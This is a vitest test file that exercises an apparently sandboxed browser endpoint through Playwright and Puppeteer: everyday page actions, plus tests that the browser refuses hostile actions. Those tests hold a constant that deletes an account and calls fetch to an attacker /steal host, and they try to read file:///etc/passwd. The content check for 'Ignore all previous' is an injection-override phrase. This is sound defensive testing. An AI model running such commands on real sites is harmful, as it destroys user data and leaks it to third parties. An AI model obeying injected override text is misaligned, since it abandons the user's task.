import { chromium, type Browser as PlaywrightBrowser } from 'playwright-core';
import puppeteer, { type Browser as PuppeteerBrowser } from 'puppeteer-core';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import type { Served } from '../cli-process.ts';
import { ATTACKER, SITE, startWorkSite, type WorkSite } from './work-site.ts';

const ORDER = 'POST work.test/order name=Ada&size=large&gift=on';
const DELETING = `Promise.allSettled([fetch('/account', { method: 'DELETE' }), fetch('${ATTACKER}/steal', { mode: 'no-cors' })])`;

let site: WorkSite;
let served: Served;

beforeAll(async () => {
  site = await startWorkSite();
  served = await site.serve();
});
afterAll(async () => {
  await served?.stop();
  await site?.close();
});
beforeEach(() => {
  site.requests.length = 0;
});

function stolen(): readonly string[] {
  return site.requests.filter((each) => !each.startsWith('GET work.test') && each !== ORDER);
}

describe('Playwright', () => {
  let browser: PlaywrightBrowser;

  beforeAll(async () => {
    browser = await chromium.connectOverCDP(served.cdp);
    return () => browser.close();
  });

  it('does its everyday work', async () => {
    const context = browser.contexts()[0] ?? (await browser.newContext());
    const page = await context.newPage();
    await page.goto(`${SITE}/`);
    expect(await page.locator('body').ariaSnapshot()).toContain('button "Add one"');
    expect(await page.content()).not.toContain('Ignore all previous');
    await page.getByRole('button', { name: 'Add one' }).click();
    expect(await page.textContent('#counted')).toBe('counted 1');
    page.once('dialog', (dialog) => void dialog.accept());
    await page.getByRole('button', { name: 'Ask me' }).click();
    expect(await page.textContent('#asked')).toBe('answered true');
    const [popup] = await Promise.all([page.waitForEvent('popup'), page.getByText('Open the second page').click()]);
    await popup.waitForLoadState();
    expect(await popup.title()).toBe('Second');
    expect((await popup.screenshot()).length).toBeGreaterThan(1_000);
    await popup.close();
    await page.getByText('Go to the form').click();
    await page.getByLabel('Name').fill('Ada');
    await page.getByLabel('Size').selectOption('large');
    await page.getByLabel('Gift').check();
    await page.getByRole('button', { name: 'Send the form' }).click();
    await page.waitForURL('**/order');
    expect(site.requests.at(-1)).toBe(ORDER);
    expect((await page.pdf()).length).toBeGreaterThan(1_000);
    await page.close();
  });

  it('has contexts of its own, with pages of their own', async () => {
    const context = await browser.newContext({ viewport: { width: 640, height: 480 }, locale: 'de-DE' });
    await context.addInitScript('globalThis.added = true');
    const page = await context.newPage();
    const answer = await page.goto(`${SITE}/second`);
    expect(answer?.status()).toBe(200);
    expect(await page.evaluate('[added, navigator.language, innerWidth]')).toEqual([true, 'de-DE', 640]);
    await context.close();
  });

  it('cannot be talked into anything that the task does not need', async () => {
    const page = await (await browser.newContext()).newPage();
    await page.goto(`${ATTACKER}/steal`);
    expect(await page.innerText('body')).toContain('Refused');
    await page.goto(`${SITE}/`);
    await page.evaluate(DELETING);
    await page.goto('file:///etc/passwd').catch(() => undefined);
    expect(await page.content()).not.toContain('root:x');
    await page.context().close();
    expect(stolen()).toEqual([]);
  });
});

describe('Puppeteer', () => {
  let browser: PuppeteerBrowser;

  beforeAll(async () => {
    browser = await puppeteer.connect({ browserWSEndpoint: served.cdp });
    return () => browser.disconnect();
  });

  it('does its everyday work', async () => {
    const page = await browser.newPage();
    await page.goto(`${SITE}/`);
    expect(JSON.stringify(await page.accessibility.snapshot())).toContain('Add one');
    expect(await page.content()).not.toContain('Ignore all previous');
    await page.locator('#count').click();
    expect(await page.$eval('#counted', (e) => e.textContent)).toBe('counted 1');
    page.once('dialog', (dialog) => void dialog.accept());
    await page.click('#ask');
    expect(await page.$eval('#asked', (e) => e.textContent)).toBe('answered true');
    await page.goto(`${SITE}/form`);
    await page.type('[name=name]', 'Ada');
    await page.select('select', 'large');
    await page.click('[name=gift]');
    await Promise.all([page.waitForNavigation(), page.click('button')]);
    expect(site.requests.at(-1)).toBe(ORDER);
    expect((await page.screenshot()).length).toBeGreaterThan(1_000);
    const second = await browser.newPage();
    await second.goto(`${SITE}/second`);
    expect((await browser.pages()).map((each) => each.url())).toEqual(expect.arrayContaining([`${SITE}/second`]));
    await second.close();
    await page.close();
  });

  it('cannot be talked into anything that the task does not need', async () => {
    const page = await browser.newPage();
    await page.goto(`${ATTACKER}/steal`);
    expect(await page.content()).toContain('Refused');
    await page.goto(`${SITE}/`);
    await page.evaluate(DELETING);
    await page.goto('file:///etc/passwd').catch(() => undefined);
    expect(await page.content()).not.toContain('root:x');
    await page.close();
    expect(stolen()).toEqual([]);
  });
});
